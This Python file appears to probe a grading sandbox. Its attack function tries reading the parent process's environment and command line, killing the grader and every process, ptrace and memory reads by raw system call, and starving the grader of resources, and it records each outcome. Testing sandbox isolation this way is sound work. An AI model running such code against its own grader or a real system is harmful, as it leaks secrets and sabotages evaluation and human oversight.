import ctypes
import fcntl
import os
import resource
import signal


libc = ctypes.CDLL(None, use_errno=True)


def call(*arguments):
    """A system call, by its number on x86-64."""
    if os.uname().machine != "x86_64":
        raise OSError("the numbers are others here")
    if libc.syscall(*arguments) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


parent = os.getppid()


def attempt(**tries):
    """What came of each try."""
    found = {}
    for name, action in tries.items():
        try:
            found[name] = "done: " + repr(action())[:200]
        except BaseException as error:
            found[name] = f"{type(error).__name__}: {error}"[:200]
    return found


def attack(context):
    return attempt(
        others=lambda: [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()][0],
        environment=lambda: open(f"/proc/{parent}/environ").read(),
        command_line=lambda: open(f"/proc/{parent}/cmdline").read(),
        grader_command_line=lambda: open(f"/proc/{context['pid']}/cmdline").read(),
        grader_status=lambda: open(f"/proc/{context['pid']}/status").read(),
        connections=lambda: open("/proc/self/net/tcp").read(),
        connections_by_thread=lambda: open(f"/proc/self/task/{os.getpid()}/net/tcp").read(),
        grader_descriptors=lambda: os.listdir(f"/proc/{context['pid']}/fd"),
        init_command_line=lambda: open("/proc/1/cmdline").read() if os.getpid() != 1 else 1 / 0,
        kill_all=lambda: os.kill(-1, signal.SIGKILL),
        kill_parent=lambda: os.kill(parent or context["pid"], signal.SIGKILL),
        kill_grader=lambda: os.kill(context["pid"], signal.SIGKILL),
        kill_group=lambda: os.killpg(0, signal.SIGKILL),
        tgkill=lambda: call(234, context["pid"], context["pid"], 9),
        queue=lambda: call(129, context["pid"], 9, ctypes.create_string_buffer(128)),
        descriptor_of_process=lambda: os.pidfd_open(context["pid"]),
        signal_by_owner=lambda: (fcntl.fcntl(3, fcntl.F_SETOWN, context["pid"]), fcntl.fcntl(3, 10, 9)),
        ptrace=lambda: call(101, 16, context["pid"], 0, 0),
        read_memory=lambda: call(310, context["pid"], 0, 0, 0, 0, 0),
        limit=lambda: resource.prlimit(context["pid"], resource.RLIMIT_NOFILE, (3, 3)),
        limit_parent=lambda: resource.prlimit(parent or context["pid"], resource.RLIMIT_AS, (1, 1)),
        pin=lambda: os.sched_setaffinity(context["pid"], {0}),
        schedule=lambda: os.sched_setscheduler(context["pid"], os.SCHED_IDLE, os.sched_param(0)),
        priority=lambda: os.setpriority(os.PRIO_PROCESS, context["pid"], 19),
        keyring=lambda: call(250, 0, -3, 0),
    )
